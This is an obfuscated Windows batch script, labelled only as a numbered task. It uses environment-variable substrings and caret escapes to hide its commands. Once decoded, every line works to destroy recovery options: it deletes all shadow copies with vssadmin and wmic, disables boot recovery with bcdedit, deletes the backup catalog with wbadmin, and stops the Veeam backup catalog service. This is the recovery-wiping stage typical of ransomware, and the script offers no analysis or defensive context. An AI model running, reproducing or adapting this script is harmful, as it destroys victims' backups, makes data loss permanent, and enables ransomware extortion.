REM task 9185 v2
v%COMSPEC:~9,1%%public:~4,1%^a%WINDIR:~-4,1%%ProgramData:~-5,1%%windir:~4,1%%windir:~5,1% d^e^l^et^e sh^a^dows /^al^l /^q^u^iet
%windir:~-2,1%%programdata:~-5,1%i%PUBLIC:~-1,1% ^shad^owco^py ^d^elet^e
bc%COMSPEC:~-5,1%%PUBLIC:~5,1%%COMSPEC:~-21,1%%windir:~-6,1%^t /^s^e^t {d^e^f^au^lt} ^r^e^c^o^ve^ry^enab^l^ed no
%PUBLIC:~11,1%%PUBLIC:~-1,1%%windir:~6,1%e%COMSPEC:~-5,1%^i%COMSPEC:~14,1% /s^et {defa^u^lt} ^bo^o^ts^tatu^spo^l^icy i^gnor^ea^l^lfai^l^u^r^e^s
%COMSPEC:~8,1%^ba%COMSPEC:~22,1%%programdata:~9,1%%windir:~4,1%n ^d^e^l^ete ^ca^talog -^qu^iet
%windir:~-5,1%%COMSPEC:~-12,1%%comspec:~14,1% s^top "Veeam Backup Catalog Data Service" /^y
